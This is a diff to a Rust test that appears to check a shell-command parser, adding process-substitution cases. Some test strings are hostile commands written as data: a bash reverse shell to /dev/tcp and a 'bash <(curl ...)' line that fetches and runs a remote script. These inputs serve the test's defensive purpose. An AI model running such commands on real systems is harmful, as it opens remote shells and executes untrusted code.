@@ -60,6 +60,11 @@ fn redirections() {
         calls("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"),
         ["/dev/tcp(192.0.2.1, 4444)", "bash(-i, >=/dev/tcp/192.0.2.1/4444, >=1)"]
     );
+    let fetched = ["curl(https://x.example/i.sh)", "bash(stdin=<curl>)"];
+    assert_eq!(calls("bash <(curl https://x.example/i.sh)"), fetched);
+    assert_eq!(calls("bash < <(curl https://x.example/i.sh)"), fetched);
+    assert_eq!(calls("bash <(curl https://x.example/i.sh"), fetched);
+    assert_eq!(calls("tee >(gzip); id"), ["tee()", "gzip()", "id()"]);
     assert_eq!(calls("python3 <<EOF\nimport os\nEOF\nid"), ["python3(stdin=import os\n)", "id()"]);
 }
 
